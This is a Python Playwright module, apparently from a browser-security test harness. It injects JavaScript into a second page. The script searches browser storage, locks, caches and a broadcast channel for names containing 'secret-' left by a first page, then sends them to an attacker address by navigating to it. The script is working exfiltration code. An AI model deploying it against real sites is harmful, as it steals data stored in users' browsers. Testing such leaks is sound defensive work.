"""Second page of the site, where injected code finds and sends what the first page stored in the browser."""

from playwright.sync_api import BrowserContext

# Looks repeatedly for what the first page stored. Sends it by navigating to the attacker, which even a page with our
# headers can do if it links to other sites. The attacker responds with 204 (No Content), so the page stays.
_SEND = """address => {
  const found = new Set();
  const channel = new BroadcastChannel("left");
  channel.onmessage = ({ data }) => found.add(data);
  const look = async () => {
    for (const name of Object.keys(localStorage)) found.add(name);
    for (const { name } of await indexedDB.databases()) found.add(name);
    for (const name of await caches.keys()) found.add(name);
    for (const { name } of (await navigator.locks.query()).held) found.add(name);
    for await (const name of (await navigator.storage.getDirectory()).keys()) found.add(name);
    const secrets = [...found].filter(each => each.includes("secret-"));
    if (secrets.length) location.href = `${address}/left?${secrets.join(",")}`;
  };
  setInterval(look, 300);
}"""


def find(context: BrowserContext, second: str, attacker: str) -> None:
    """Open the second page, find there what the first page stored, and send it to the attacker.

    The browser itself sends cookies to the host with the request for the second page. The page stays open, to receive
    messages that the first page still broadcasts.
    """
    page = context.new_page()
    page.goto(second)
    page.evaluate(_SEND, attacker)
